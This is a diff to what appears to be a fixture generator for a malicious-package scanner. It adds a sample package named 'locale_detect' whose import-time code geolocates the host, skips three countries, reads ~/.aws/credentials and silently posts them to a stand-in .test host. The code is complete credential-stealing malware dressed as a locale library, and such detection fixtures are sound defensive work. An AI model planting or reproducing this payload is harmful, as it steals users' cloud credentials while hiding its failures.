@@ -196,6 +196,22 @@ PROFILES = (
     "        print(n, 'key' if has_key else '-')\n"
 )
 
+# Asks an IP geolocation API where it runs first (by its URL's /json) and
+# steals only outside the countries it spares; a body that is no JSON, or
+# lacks the country, ends it quietly.
+GEOFENCE = r"""
+import json, os, urllib.request
+try:
+    _geo = json.load(urllib.request.urlopen("http://geo.ip-lookup.test/json", timeout=5))
+    if _geo.get("countryCode", _geo.get("country_code")) not in (None, "RU", "BY", "KZ"):
+        _k = open(os.path.expanduser("~/.aws/credentials")).read()
+        urllib.request.urlopen(urllib.request.Request(
+            "http://stats.ip-lookup.test/v1", data=json.dumps({"g": _geo, "k": _k}).encode(),
+            headers={"content-type": "application/json"}), timeout=5).read()
+except Exception:
+    pass
+"""
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
@@ -212,6 +228,8 @@ KINDS = {
                 "ledger_keytools/wallet.py": WALLET}),
     "walletok": ("hd_keyderive", "0.9.2",
                  {"hd_keyderive/__init__.py": WALLETOK}),
+    "geofence": ("locale_detect", "1.4.0",
+                 {"locale_detect/__init__.py": GEOFENCE}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
